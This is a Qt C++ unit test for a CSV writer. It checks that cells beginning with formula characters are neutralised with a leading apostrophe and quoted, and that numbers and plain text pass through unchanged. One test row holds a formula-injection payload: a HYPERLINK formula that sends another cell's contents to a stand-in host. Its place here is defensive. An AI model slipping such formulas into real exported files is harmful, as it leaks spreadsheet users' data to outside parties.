#include "model/DCsv.h"
#include "tests/TestSupport.h"

class TestDCsv : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void cells_data();
    void cells();
};

void TestDCsv::cells_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QByteArray>("bytes");
    // Texts a spreadsheet would run as a formula: a leading ' and always quoted.
    QTest::newRow("sum") << "=1+1" << QByteArray("\"'=1+1\"");
    QTest::newRow("link that sends a cell") << "=HYPERLINK(\"http://x/?\"&B3,\"Click\")"
                                            << QByteArray("\"'=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\"");
    QTest::newRow("plus") << "+x" << QByteArray("\"'+x\"");
    QTest::newRow("minus") << "-x" << QByteArray("\"'-x\"");
    QTest::newRow("minus alone") << "-" << QByteArray("\"'-\"");
    QTest::newRow("minus and a number in text") << "-2+3" << QByteArray("\"'-2+3\"");
    QTest::newRow("at") << "@x" << QByteArray("\"'@x\"");
    QTest::newRow("tab first") << "\tx" << QByteArray("\"'\tx\"");
    QTest::newRow("carriage return first") << "\rx" << QByteArray("\"'\rx\"");
    QTest::newRow("formula with a comma") << "=SUM(A1,A2)" << QByteArray("\"'=SUM(A1,A2)\"");
    // Numbers are data, negative ones included.
    QTest::newRow("number") << "12" << QByteArray("12");
    QTest::newRow("negative number") << "-12" << QByteArray("-12");
    QTest::newRow("negative decimal") << "-0.250" << QByteArray("-0.250");
    // Everything else as it always was: quoted only when it would split.
    QTest::newRow("plain") << "Rossi" << QByteArray("Rossi");
    QTest::newRow("empty") << "" << QByteArray("");
    QTest::newRow("formula sign later") << "Rossi=1" << QByteArray("Rossi=1");
    QTest::newRow("leading blank") << " =1" << QByteArray(" =1");
    QTest::newRow("comma") << "Rossi, Jr." << QByteArray("\"Rossi, Jr.\"");
    QTest::newRow("quote") << "O\"Neil" << QByteArray("\"O\"\"Neil\"");
    QTest::newRow("line feed") << "Ro\nssi" << QByteArray("\"Ro\nssi\"");
    QTest::newRow("apostrophe first") << "'Ndrangheta" << QByteArray("'Ndrangheta");
    QTest::newRow("accented") << QString::fromUtf8("Niccolò") << QByteArray("Niccol\xc3\xb2");
    QTest::newRow("cyrillic") << QString::fromUtf8("Ж") << QByteArray("\xd0\x96");
}

void TestDCsv::cells()
{
    QFETCH(QString, cell);
    QFETCH(QByteArray, bytes);
    // A line of its own and a line among others: no byte-order mark, UTF-8,
    // every line ended by CR LF.
    QCOMPARE(DCsv::Bytes({DCsv::Line({cell})}), bytes + "\r\n");
    QCOMPARE(DCsv::Bytes({DCsv::Line({QStringLiteral("1"), cell, QStringLiteral("0.500")}), QStringLiteral("end")}),
             "1," + bytes + ",0.500\r\nend\r\n");
}

KC_TEST_MAIN(TestDCsv)
#include "test_DCsv.moc"
